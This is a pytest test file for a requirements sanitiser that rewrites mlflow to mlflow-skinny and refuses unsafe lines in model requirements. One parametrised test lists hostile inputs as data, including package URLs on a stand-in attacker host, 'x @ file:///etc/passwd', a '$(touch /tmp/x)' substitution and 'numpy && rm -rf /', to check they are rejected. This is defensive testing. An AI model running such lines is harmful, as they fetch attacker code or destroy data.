"""The model's requirements are text from outside: nothing but names, versions and markers gets through."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from packaging.requirements import Requirement

from mlops_desk.kit.base.errors import Refused
from mlops_desk.serving.image.requirements import serving_requirements


def test_mlflow_becomes_skinny_and_what_scoring_needs_is_added() -> None:
    text = "mlflow==3.17.2\ncloudpickle==3.1.3\n# a comment\nscikit-learn==1.9.1  # pinned\n\n"
    assert serving_requirements(text) == (
        "cloudpickle==3.1.3",
        "mlflow-skinny==3.17.2",
        "numpy",
        "pandas",
        "scikit-learn==1.9.1",
    )


def test_what_the_model_pins_is_kept() -> None:
    found = serving_requirements("mlflow==3.5.0\npandas==2.2.3\nNumPy>=2\nfastapi<1; python_version >= '3.9'")
    assert "pandas==2.2.3" in found
    assert "NumPy>=2" in found
    assert 'fastapi<1; python_version >= "3.9"' in found
    assert "numpy" not in found
    assert "pandas" not in found


@pytest.mark.parametrize("line", ["mlflow==2.9.2", "mlflow<3", "mlflow", "mlflow[extras]>=2", ""])
def test_an_mlflow_whose_server_is_not_ours_is_replaced(line: str) -> None:
    assert "mlflow-skinny<4,>=3.5" in serving_requirements(line)


def test_the_saving_mlflow_counts_when_the_list_names_none() -> None:
    assert "mlflow-skinny==3.17.2" in serving_requirements("scikit-learn==1.9.1", "3.17.2")
    assert "mlflow-skinny<4,>=3.5" in serving_requirements("scikit-learn==1.9.1", "not a version")


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://evil.example/simple",
        "-i https://evil.example/simple",
        "-r other.txt",
        "-e .",
        "-e git+https://evil.example/x.git#egg=x",
        "./local",
        "/etc/passwd",
        "../../x.whl",
        "https://evil.example/x-1.0-py3-none-any.whl",
        "x @ https://evil.example/x-1.0-py3-none-any.whl",
        "x @ file:///etc/passwd",
        "git+ssh://git@evil.example/x.git",
        "numpy --hash=sha256:00",
        "numpy==1.0 --global-option=x",
        "numpy; import os",
        "numpy\\",
        "$(touch /tmp/x)",
        "numpy && rm -rf /",
    ],
)
def test_lines_that_could_fetch_or_run_something_are_refused(line: str) -> None:
    with pytest.raises(Refused, match=r"requirements\.txt"):
        serving_requirements(f"mlflow==3.17.2\n{line}\n")


@given(st.text(max_size=200))
def test_whatever_is_written_only_plain_requirements_come_out(text: str) -> None:
    try:
        found = serving_requirements(text)
    except Refused:
        return
    for line in found:
        requirement = Requirement(line)
        assert requirement.url is None
        assert line.isascii()
        assert line.isprintable()
        assert not line.startswith("-")


def test_a_list_that_is_too_long_is_refused() -> None:
    with pytest.raises(Refused):
        serving_requirements("a\n" * 70_000)
